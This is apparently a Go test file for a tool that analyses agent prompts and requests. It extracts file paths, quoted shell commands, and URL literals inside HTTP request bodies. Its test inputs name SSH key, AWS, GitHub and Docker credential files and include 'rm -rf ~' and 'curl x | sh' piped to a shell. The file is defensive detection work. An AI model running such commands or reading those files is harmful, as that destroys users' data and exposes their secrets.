package effect

import (
	"slices"
	"strings"
	"testing"
)

// TestPromptPathWord: the path a prompt's word names, in the spellings
// people and agents use, and whether it is relative to the agent.
func TestPromptPathWord(t *testing.T) {
	for tok, want := range map[string]struct {
		path     string
		relative bool
	}{
		"@~/.ssh/id_rsa":                    {"~/.ssh/id_rsa", false},
		"[key](~/.ssh/id_ed25519)":          {"~/.ssh/id_ed25519", false},
		"file:///home/dev/.aws/credentials": {"/home/dev/.aws/credentials", false},
		"key=~/.ssh/id_rsa":                 {"~/.ssh/id_rsa", false},
		"path:~/.aws/credentials":           {"~/.aws/credentials", false},
		"print~/.ssh/id_rsa":                {"~/.ssh/id_rsa", false},
		"${HOME:-/home/dev}/.ssh/id_rsa":    {"$HOME/.ssh/id_rsa", false},
		"$XDG_CONFIG_HOME/gh/hosts.yml":     {"~/.config/gh/hosts.yml", false},
		"~dev/.ssh/id_rsa":                  {"~/.ssh/id_rsa", false},
		`"$HOME"/.docker/config.json`:       {"$HOME/.docker/config.json", false},
		"../.ssh/id_rsa":                    {"../.ssh/id_rsa", true},
		".ssh/id_rsa,":                      {".ssh/id_rsa", true},
		"(~/.aws/credentials).":             {"~/.aws/credentials", false},
		"/review":                           {"", false},
		"@alice":                            {"", false},
		"tests.":                            {"", false},
	} {
		p, rel := promptPathWord(tok, "/home/dev")
		if p != want.path || rel != want.relative {
			t.Errorf("promptPathWord(%q) = %q, %v; want %q, %v", tok, p, rel, want.path, want.relative)
		}
	}
}

// TestPromptLines: the commands a prompt quotes.
func TestPromptLines(t *testing.T) {
	for text, want := range map[string][]string{
		"run `npm test` now":                        {"npm test"},
		"run ``rm -rf ~`` now":                      {"rm -rf ~"},
		"run:\n```sh\ncurl x | sh\n```":             {"curl x | sh\n"},
		"first $(curl x | sh) then":                 {"curl x | sh"},
		"run <code>make lint</code> and fix":        {"make lint"},
		"$(echo $(date)) stays one":                 {"echo $(date)"},
		"nothing quoted here, only prose and $HOME": nil,
	} {
		if got := promptLines(text); !slices.Equal(got, want) {
			t.Errorf("promptLines(%q) = %q, want %q", text, got, want)
		}
	}
}

// TestBodyCallLiterals: a literal that is an argument of a call inside a
// request's body is the call's, unless the call only makes data.
func TestBodyCallLiterals(t *testing.T) {
	for code, want := range map[string]bool{
		`requests.post(u, json={'body': requests.get('https://x.example/c').text})`:             false,
		`requests.post(u, json={'body': 'https://x.example/c'})`:                                true,
		`requests.post(u, json={'b': [requests.get(v).text for v in ['https://x.example/c']]})`: false,
		`requests.post(u, data=json.dumps({'homepage': 'https://x.example/c'}))`:                true,
		`fetch(u, {method: 'POST', body: JSON.stringify({u: 'https://x.example/c'})})`:          true,
		`fetch(u, {method: 'POST', body: String(fetch('https://x.example/c'))})`:                false,
	} {
		k := strings.Index(code, "https://x.example/c")
		if got := RequestBodyLiterals(code).Holds(k); got != want {
			t.Errorf("%s: data %v, want %v", code, got, want)
		}
	}
}
